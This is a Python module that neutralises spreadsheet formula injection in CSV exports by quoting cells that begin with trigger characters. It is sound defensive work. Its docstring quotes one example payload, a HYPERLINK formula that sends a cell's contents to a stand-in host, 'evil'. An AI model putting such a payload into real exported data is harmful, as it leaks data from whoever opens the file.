"""CSV cells that a spreadsheet cannot run: formula injection neutralised at the edge.

Excel, LibreOffice and WPS treat a cell starting with ``=``, ``+``, ``-`` or ``@`` (and a tab or
carriage return before one) as a formula, so a record field such as
``=HYPERLINK("http://evil/?"&A1,"click")`` exported as-is runs on the analyst's desk. Every CSV
*export* writes its cells through :func:`neutralise` (OWASP's advice: prefix a single quote,
which the spreadsheet shows as text). Plain numbers such as ``-3.5`` or ``+86`` stay as they are.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def neutralise(value: Any) -> Any:
    """``value`` made safe for a spreadsheet cell (non-strings are returned unchanged)."""
    if not isinstance(value, str) or not value.startswith(_TRIGGERS):
        return value
    if _NUMBER.fullmatch(value):
        return value
    return "'" + value


class SafeWriter:
    """``csv.writer`` whose every cell goes through :func:`neutralise`."""

    def __init__(self, fh: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(fh, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
